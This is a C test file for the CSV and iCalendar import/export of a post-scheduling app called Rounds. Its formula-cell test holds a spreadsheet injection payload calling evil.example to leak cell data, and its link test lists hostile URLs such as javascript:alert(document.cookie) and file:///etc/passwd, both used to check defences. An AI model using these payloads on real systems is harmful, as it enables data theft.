/* test-exchange.c
 *
 * Copyright 2026 The Rounds developers
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "core-test-util.h"
#include "config.h"

#include <string.h>
#include <libical/ical.h>

#include "rounds-exchange.h"
#include "rounds-recurrence.h"
#include "rounds-store-calendar.h"

#include "test-calendar-util.h"

/* CSV in and out in the bulk-scheduler shape, and iCalendar out: a good
 * file imports once (not twice), a bad one is refused whole with a
 * row-by-row report, and what goes out reads back the same. */

static char *
read_fixture (const char *name,
              gsize      *length)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "calendar", name, NULL);
  g_autoptr(GError) error = NULL;
  char *data = NULL;

  g_file_get_contents (path, &data, length, &error);
  g_assert_no_error (error);
  return data;
}

static guint
n_posts (CalFixture *f)
{
  return g_list_model_get_n_items (rounds_store_get_posts (f->store));
}

static void
test_csv_import_good (CalFixture    *f,
                      gconstpointer  data)
{
  gsize length;
  g_autofree char *csv = read_fixture ("good.csv", &length);
  g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
  g_autoptr(RoundsCsvReport) again = rounds_csv_report_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) items = NULL;
  RoundsCalendarItem *first, *third;

  g_assert_true (rounds_csv_import (f->store, csv, length, report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 3);
  g_assert_cmpuint (n_posts (f), ==, 3);

  items = rounds_store_list_calendar_items (f->store, f->tz, cal_local (f, 2026, 3, 1, 0, 0),
                                            cal_local (f, 2026, 4, 1, 0, 0), &error);
  g_assert_cmpuint (items->len, ==, 3);
  first = items->pdata[0];
  g_assert_cmpint (first->when, ==, cal_local (f, 2026, 3, 10, 9, 0));
  g_assert_cmpstr (rounds_post_get_body (first->post), ==,
                   "Flu shots are here, walk-ins welcome.\n\nhttps://clinic.example/flu");
  g_assert_cmpint (rounds_post_get_networks (first->post), ==,
                   ROUNDS_NETWORK_FACEBOOK | ROUNDS_NETWORK_INSTAGRAM);
  g_assert_cmpint (rounds_post_get_status (first->post), ==, ROUNDS_POST_STATUS_DRAFT);
  g_assert_cmpstr (rounds_post_get_body (((RoundsCalendarItem *)items->pdata[1])->post), ==,
                   "Free blood pressure checks \"every\" Wednesday.");
  third = items->pdata[2];
  g_assert_cmpint (third->when, ==, cal_local (f, 2026, 3, 20, 8, 15));
  g_assert_cmpstr (rounds_post_get_body (third->post), ==, "Two lines\nin one message");
  g_assert_cmpint (rounds_post_get_networks (third->post), ==,
                   ROUNDS_NETWORK_MASTODON | ROUNDS_NETWORK_BLUESKY);

  /* The same file again adds nothing. */
  g_assert_true (rounds_csv_import (f->store, csv, length, again, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (again->imported, ==, 0);
  g_assert_cmpuint (again->duplicates, ==, 3);
  g_assert_cmpuint (n_posts (f), ==, 3);
}

static void
test_csv_import_bad (CalFixture    *f,
                     gconstpointer  data)
{
  gsize length;
  g_autofree char *csv = read_fixture ("bad.csv", &length);
  g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  static const char *expected[] = {
    "Row 2 (line 3), column “date”: “2026-02-30” is not a date",
    "Row 3 (line 4), column “time”: “25:00” is not a time of day",
    "Row 4 (line 5), column “message”: the message is empty",
    "Row 5 (line 6), column “networks”: “myspace” is not a network",
    "Row 6 (line 7): 3 fields where the header has 5",
    "Row 7 (line 8), columns “date” and “time”: 2026-03-01 10:00 is in the past",
  };

  g_assert_false (rounds_csv_import (f->store, csv, length, report, &error));
  g_assert_error (error, ROUNDS_EXCHANGE_ERROR, ROUNDS_EXCHANGE_ERROR_INVALID);
  g_assert_cmpuint (report->problems->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    g_assert_true (g_str_has_prefix (report->problems->pdata[i], expected[i]));
  text = rounds_csv_report_to_string (report);
  /* The report names rows, not the messages' text. */
  g_assert_null (strstr (text, "A good row"));
  /* Nothing was imported, not even the good row. */
  g_assert_cmpuint (n_posts (f), ==, 0);
  g_assert_cmpuint (report->imported, ==, 0);
}

static void
test_csv_refuses_non_csv (CalFixture    *f,
                          gconstpointer  data)
{
  static const struct { const char *data; const char *problem; } cases[] = {
    { "", "empty" },
    { "date,time,message,link,networks\n", "no posts" },
    { "when,what\n2026-03-10,hi\n", "no “date” column" },
    { "date,time,message,link,networks\n2026-03-10,09:00,\"unclosed,,facebook\n", "never closed" },
    { "date,time,message,link,networks\n2026-03-10,09:00,\xff\xfe,,facebook\n", "UTF-8" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
      g_autoptr(GError) error = NULL;
      g_autofree char *text = NULL;

      g_assert_false (rounds_csv_import (f->store, cases[i].data, strlen (cases[i].data),
                                         report, &error));
      g_assert_nonnull (error);
      text = rounds_csv_report_to_string (report);
      g_assert_nonnull (strstr (text, cases[i].problem));
    }
  g_assert_cmpuint (n_posts (f), ==, 0);
}

static void
test_csv_round_trip (CalFixture    *f,
                     gconstpointer  data)
{
  gsize length;
  g_autofree char *csv = read_fixture ("good.csv", &length);
  g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
  g_autoptr(RoundsCsvReport) back = rounds_csv_report_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) posts = NULL;
  g_autofree char *out = NULL;

  g_assert_true (rounds_csv_import (f->store, csv, length, report, &error));
  posts = rounds_store_list_posts_between (f->store, 0, G_MAXINT64, &error);
  out = rounds_csv_export (posts, f->tz);
  g_assert_true (g_str_has_prefix (out, "date,time,message,link,networks\r\n"));
  g_assert_nonnull (strstr (out, "2026-03-10,09:00,\"Flu shots are here, walk-ins welcome.\","
                                 "\"https://clinic.example/flu\",\"facebook,instagram\"\r\n"));

  /* What was exported reads back as the same rows. */
  g_assert_true (rounds_csv_parse (out, strlen (out), f->tz, CAL_NOW, back, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (back->rows->len, ==, 3);
  for (guint i = 0; i < 3; i++)
    {
      RoundsCsvRow *row = back->rows->pdata[i];
      RoundsPost *post = posts->pdata[i];
      g_autofree char *body = rounds_csv_row_dup_body (row);

      g_assert_cmpint (row->when, ==, rounds_post_get_scheduled_at (post));
      g_assert_cmpstr (body, ==, rounds_post_get_body (post));
      g_assert_cmpint (row->networks, ==, rounds_post_get_networks (post));
    }

  /* And importing the export changes nothing. */
  {
    g_autoptr(RoundsCsvReport) re = rounds_csv_report_new ();

    g_assert_true (rounds_csv_import (f->store, out, strlen (out), re, &error));
    g_assert_cmpuint (re->imported, ==, 0);
    g_assert_cmpuint (n_posts (f), ==, 3);
  }
}

/* Without its module (a broken installation), an export says which
 * part is missing instead of crashing, and nothing is written. */
static void
test_ics_missing_module (CalFixture    *f,
                         gconstpointer  data)
{
  if (g_test_subprocess ())
    {
      g_autofree char *empty = g_dir_make_tmp ("rounds-no-modules-XXXXXX", NULL);
      g_autoptr(GPtrArray) posts = g_ptr_array_new_with_free_func (g_object_unref);
      g_autoptr(GError) error = NULL;
      g_autofree char *ics = NULL;

      g_assert_nonnull (empty);
      g_setenv ("ROUNDS_MODULE_DIR", empty, TRUE);
      g_ptr_array_add (posts, g_object_ref (cal_add_post (f, cal_local (f, 2026, 3, 10, 9, 30),
                                                          ROUNDS_POST_STATUS_SCHEDULED)));
      ics = rounds_ics_export (f->store, posts, &error);
      g_assert_null (ics);
      g_assert_nonnull (error);
      g_assert_nonnull (strstr (error->message, "rounds-icalendar.so"));
      g_assert_nonnull (strstr (error->message, "calendar files"));
      g_rmdir (empty);
      return;
    }
  g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_DEFAULT);
  g_test_trap_assert_passed ();
}

static void
test_ics_export (CalFixture    *f,
                 gconstpointer  data)
{
  RoundsPost *one = cal_add_post (f, cal_local (f, 2026, 3, 10, 9, 30), ROUNDS_POST_STATUS_SCHEDULED);
  RoundsPost *series = cal_add_post (f, cal_local (f, 2026, 3, 3, 17, 0), ROUNDS_POST_STATUS_APPROVED);
  RoundsPost *loose = cal_add_post (f, 0, ROUNDS_POST_STATUS_DRAFT);
  g_autoptr(RoundsRecurrence) rule = rounds_recurrence_new (ROUNDS_RECURRENCE_WEEKLY, 1);
  g_autoptr(GPtrArray) posts = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GError) error = NULL;
  g_autofree char *ics = NULL;
  icalcomponent *calendar, *event;
  guint n_events = 0;
  gboolean saw_one = FALSE, saw_series = FALSE;

  rule->count = 4;
  g_assert_true (rounds_store_set_recurrence (f->store, rounds_post_get_id (series), rule, &error));
  g_ptr_array_add (posts, g_object_ref (one));
  g_ptr_array_add (posts, g_object_ref (series));
  g_ptr_array_add (posts, g_object_ref (loose));

  ics = rounds_ics_export (f->store, posts, &error);
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (ics, "BEGIN:VCALENDAR\r\n"));
  g_assert_nonnull (strstr (ics, "VERSION:2.0"));
  g_assert_nonnull (strstr (ics, "BEGIN:VTIMEZONE"));
  g_assert_nonnull (strstr (ics, "TZID:America/Chicago\r\n"));

  /* Read it back with libical, as a calendar app would. */
  calendar = icalparser_parse_string (ics);
  g_assert_nonnull (calendar);
  g_assert_cmpint (icalcomponent_isa (calendar), ==, ICAL_VCALENDAR_COMPONENT);
  for (event = icalcomponent_get_first_component (calendar, ICAL_VEVENT_COMPONENT);
       event != NULL;
       event = icalcomponent_get_next_component (calendar, ICAL_VEVENT_COMPONENT))
    {
      struct icaltimetype start = icalcomponent_get_dtstart (event);
      time_t utc = icaltime_as_timet_with_zone (start, icaltime_get_timezone (start));
      icalproperty *rrule = icalcomponent_get_first_property (event, ICAL_RRULE_PROPERTY);

      n_events++;
      g_assert_cmpstr (icalcomponent_get_summary (event), ==, "Test post");
      g_assert_nonnull (icalcomponent_get_first_property (event, ICAL_UID_PROPERTY));
      if (utc == cal_local (f, 2026, 3, 10, 9, 30))
        {
          saw_one = TRUE;
          g_assert_null (rrule);
          g_assert_cmpint (icalcomponent_get_status (event), ==, ICAL_STATUS_CONFIRMED);
        }
      else if (utc == cal_local (f, 2026, 3, 3, 17, 0))
        {
          struct icalrecurrencetype r;

          saw_series = TRUE;
          g_assert_nonnull (rrule);
          r = icalproperty_get_rrule (rrule);
          g_assert_cmpint (r.freq, ==, ICAL_WEEKLY_RECURRENCE);
          g_assert_cmpint (r.count, ==, 4);
          g_assert_cmpint (icalcomponent_get_status (event), ==, ICAL_STATUS_TENTATIVE);
        }
    }
  icalcomponent_free (calendar);

  g_assert_cmpuint (n_events, ==, 2);   /* the unscheduled draft is left out */
  g_assert_true (saw_one && saw_series);
}

/* A cell a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR first)
 * is exported with an apostrophe in front, inside quotes, so that it is
 * shown as text; importing the export gives back the exact text. */
static void
test_csv_formula_cells (CalFixture    *f,
                        gconstpointer  data)
{
  static const char *bodies[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 555 0100 is our new number",
    "-20% on whitening this week",
    "@everyone flu shots are in",
    "\tIndented",
    "'=already guarded by hand",
    "A plain post, with a comma",
  };
  g_autoptr(GPtrArray) posts = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(RoundsCsvReport) back = rounds_csv_report_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  g_auto(GStrv) lines = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (bodies); i++)
    {
      RoundsPost *post = rounds_post_new ();

      rounds_post_set_body (post, bodies[i]);
      rounds_post_set_scheduled_at (post, CAL_NOW + (i + 1) * 3600);
      rounds_post_set_networks (post, ROUNDS_NETWORK_FACEBOOK);
      g_ptr_array_add (posts, post);
    }

  out = rounds_csv_export (posts, f->tz);
  lines = g_strsplit (out, "\r\n", -1);
  for (guint i = 0; i < G_N_ELEMENTS (bodies); i++)
    {
      g_auto(GStrv) cells = g_strsplit (lines[i + 1], ",", 3);
      const char *message = cells[2];

      /* Every text cell is quoted; no cell starts with a formula sign. */
      g_assert_true (message[0] == '"');
      g_assert_null (strchr ("=+-@\t\r", message[1]));
    }
  g_assert_nonnull (strstr (out, "\"'=HYPERLINK("));
  g_assert_nonnull (strstr (out, "\"''=already guarded by hand\""));

  g_assert_true (rounds_csv_parse (out, strlen (out), f->tz, CAL_NOW, back, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (back->rows->len, ==, G_N_ELEMENTS (bodies));
  for (guint i = 0; i < G_N_ELEMENTS (bodies); i++)
    {
      RoundsCsvRow *row = back->rows->pdata[i];

      g_assert_cmpstr (row->message, ==, bodies[i]);
    }
}

/* Only http and https links are imported. */
static void
test_csv_refuses_bad_links (CalFixture    *f,
                            gconstpointer  data)
{
  static const char *bad[] = {
    "javascript:alert(1)", "JavaScript:alert(document.cookie)", "data:text/html,<b>hi</b>",
    "file:///etc/passwd", "ftp://files.example/a", "vbscript:msgbox", "https://", "clinic.example",
    "http://exa mple.org",
  };
  static const char *good[] = { "https://clinic.example/flu", "HTTP://clinic.example" };

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
      g_autoptr(GError) error = NULL;
      g_autofree char *csv = g_strdup_printf ("date,time,message,link,networks\n"
                                              "2026-03-10,09:00,Hello,\"%s\",facebook\n", bad[i]);
      g_autofree char *text = NULL;

      g_assert_false (rounds_csv_link_is_web (bad[i]));
      g_assert_false (rounds_csv_import (f->store, csv, strlen (csv), report, &error));
      g_assert_error (error, ROUNDS_EXCHANGE_ERROR, ROUNDS_EXCHANGE_ERROR_INVALID);
      text = rounds_csv_report_to_string (report);
      g_assert_nonnull (strstr (text, "column “link”: the link is not a web address"));
    }
  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    g_assert_true (rounds_csv_link_is_web (good[i]));
  g_assert_cmpuint (n_posts (f), ==, 0);
}

/* What a problem quotes is a short excerpt, clearly cut: never a whole
 * field, which may be patient text. */
static void
test_csv_report_excerpts (CalFixture    *f,
                          gconstpointer  data)
{
  g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  const char *csv =
    "date,time,message,link,networks\n"
    /* The columns slipped: the message is where the date should be. */
    "Mrs Jane Example came in for her biopsy results,09:00,x,,facebook\n"
    "2026-03-10,John Example was seen for chest pain,x,,facebook\n"
    "2026-03-10,09:00,x,,Call Jane Example back about her results\n";

  g_assert_false (rounds_csv_import (f->store, csv, strlen (csv), report, &error));
  g_assert_cmpuint (report->problems->len, ==, 3);
  text = rounds_csv_report_to_string (report);
  g_assert_nonnull (strstr (text, "Row 1 (line 2), column “date”: “Mrs Jane Exa…”"));
  g_assert_nonnull (strstr (text, "Row 2 (line 3), column “time”: “John Example…”"));
  g_assert_nonnull (strstr (text, "Row 3 (line 4), column “networks”: “Call” is not"));
  g_assert_null (strstr (text, "biopsy"));
  g_assert_null (strstr (text, "chest pain"));
  g_assert_null (strstr (text, "her results"));
}

/* Files, rows and fields over the limits are refused with a message that
 * says which limit; a million rows are refused without being read whole. */
static void
test_csv_limits (CalFixture    *f,
                 gconstpointer  data)
{
  g_autoptr(GString) rows = g_string_new ("date,time,message,link,networks\n");
  g_autoptr(GError) error = NULL;
  g_autofree char *huge_field = g_strnfill (ROUNDS_CSV_MAX_FIELD_BYTES + 1, 'x');
  g_autofree char *csv = NULL;

  for (guint i = 0; i <= ROUNDS_CSV_MAX_ROWS; i++)
    g_string_append (rows, "2026-03-10,09:00,Hello,,facebook\n");
  {
    g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();

    g_assert_false (rounds_csv_parse (rows->str, rows->len, f->tz, CAL_NOW, report, &error));
    g_assert_error (error, ROUNDS_EXCHANGE_ERROR, ROUNDS_EXCHANGE_ERROR_TOO_BIG);
    g_assert_nonnull (strstr (error->message, "more than 10000 posts"));
    g_clear_error (&error);
  }

  csv = g_strdup_printf ("date,time,message,link,networks\n2026-03-10,09:00,\"%s\",,facebook\n",
                         huge_field);
  {
    g_autoptr(RoundsCsvReport) report = rounds_csv_report_new ();

    g_assert_false (rounds_csv_parse (csv, strlen (csv), f->tz, CAL_NOW, report, &error));
    g_assert_error (error, ROUNDS_EXCHANGE_ERROR, ROUNDS_EXCHANGE_ERROR_TOO_BIG);
    g_assert_nonnull (strstr (error->message, "Line 2: a field is longer than"));
    g_clear_error (&error);
  }
  g_assert_cmpuint (n_posts (f), ==, 0);
}

typedef struct
{
  gboolean          done;
  gboolean          ok;
  RoundsCsvReport  *report;
  GError           *error;
} ReadResult;

static void
on_read_done_cb (GObject      *source,
                 GAsyncResult *result,
                 gpointer      user_data)
{
  ReadResult *r = user_data;

  r->ok = rounds_csv_read_file_finish (result, &r->report, &r->error);
  r->done = TRUE;
}

static void
read_file (CalFixture        *f,
           const char        *path,
           RoundsCsvProgress *progress,
           GCancellable      *cancellable,
           ReadResult        *r)
{
  g_autoptr(GFile) file = g_file_new_for_path (path);

  rounds_csv_read_file_async (file, f->tz, CAL_NOW, progress, cancellable, on_read_done_cb, r);
  while (!r->done)
    g_main_context_iteration (NULL, TRUE);
}

/* A million rows (about 40 MB): refused by size in the worker, before
 * they are all read; a good file is read in the worker and written in
 * one transaction; a cancelled read writes nothing. */
static void
test_csv_read_file (CalFixture    *f,
                    gconstpointer  data)
{
  g_autofree char *dir = g_dir_make_tmp ("rounds-csv-XXXXXX", NULL);
  g_autofree char *big = g_build_filename (dir, "million.csv", NULL);
  g_autofree char *good = g_build_filename (dir, "good.csv", NULL);
  g_autoptr(GString) text = g_string_new ("date,time,message,link,networks\n");
  g_autoptr(GError) error = NULL;
  RoundsCsvProgress progress = { 0, 0 };

  for (guint i = 0; i < 1000000; i++)
    g_string_append (text, "2026-03-10,09:00,A post from a big file,,facebook\n");
  g_assert_true (g_file_set_contents (big, text->str, text->len, NULL));
  {
    ReadResult r = { 0 };

    read_file (f, big, NULL, NULL, &r);
    g_assert_false (r.ok);
    g_assert_error (r.error, ROUNDS_EXCHANGE_ERROR, ROUNDS_EXCHANGE_ERROR_TOO_BIG);
    g_assert_nonnull (strstr (r.error->message, "larger than 10 MB"));
    /* One clear message, not a list of rows. */
    g_assert_cmpuint (r.report->problems->len, ==, 0);
    g_clear_error (&r.error);
    rounds_csv_report_free (r.report);
  }

  g_string_truncate (text, 0);
  g_string_append (text, "date,time,message,link,networks\n");
  for (guint i = 0; i < 2000; i++)
    g_string_append_printf (text, "2026-03-%02u,%02u:%02u,Post %u,,facebook\n",
                            10 + i % 18, 8 + (i / 60) % 10, i % 60, i);
  g_assert_true (g_file_set_contents (good, text->str, text->len, NULL));
  {
    ReadResult r = { 0 };

    read_file (f, good, &progress, NULL, &r);
    g_assert_no_error (r.error);
    g_assert_true (r.ok);
    g_assert_cmpint (g_atomic_int_get (&progress.total), ==, 2000);
    g_assert_cmpint (g_atomic_int_get (&progress.done), ==, 2000);
    g_assert_cmpuint (r.report->rows->len, ==, 2000);
    /* Nothing is written until the main thread says so. */
    g_assert_cmpuint (n_posts (f), ==, 0);
    g_assert_true (rounds_csv_import_rows (f->store, r.report, &error));
    g_assert_no_error (error);
    g_assert_cmpuint (r.report->imported, ==, 2000);
    g_assert_cmpuint (n_posts (f), ==, 2000);
    rounds_csv_report_free (r.report);
  }

  {
    g_autoptr(GCancellable) cancellable = g_cancellable_new ();
    ReadResult r = { 0 };

    g_cancellable_cancel (cancellable);
    read_file (f, good, NULL, cancellable, &r);
    g_assert_false (r.ok);
    g_assert_error (r.error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
    g_clear_error (&r.error);
    g_clear_pointer (&r.report, rounds_csv_report_free);
  }
  g_assert_cmpuint (n_posts (f), ==, 2000);

  rounds_test_remove_tree (dir);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/exchange/csv/import-good", CalFixture, NULL, cal_fixture_set_up,
              test_csv_import_good, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/import-bad", CalFixture, NULL, cal_fixture_set_up,
              test_csv_import_bad, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/refuses-non-csv", CalFixture, NULL, cal_fixture_set_up,
              test_csv_refuses_non_csv, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/round-trip", CalFixture, NULL, cal_fixture_set_up,
              test_csv_round_trip, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/formula-cells", CalFixture, NULL, cal_fixture_set_up,
              test_csv_formula_cells, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/refuses-bad-links", CalFixture, NULL, cal_fixture_set_up,
              test_csv_refuses_bad_links, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/report-excerpts", CalFixture, NULL, cal_fixture_set_up,
              test_csv_report_excerpts, cal_fixture_tear_down);
  g_test_add ("/exchange/csv/limits", CalFixture, NULL, cal_fixture_set_up, test_csv_limits,
              cal_fixture_tear_down);
  g_test_add ("/exchange/csv/read-file", CalFixture, NULL, cal_fixture_set_up,
              test_csv_read_file, cal_fixture_tear_down);
  g_test_add ("/exchange/ics/export", CalFixture, NULL, cal_fixture_set_up, test_ics_export,
              cal_fixture_tear_down);
  g_test_add ("/exchange/ics/missing-module", CalFixture, NULL, cal_fixture_set_up,
              test_ics_missing_module, cal_fixture_tear_down);

  return g_test_run ();
}
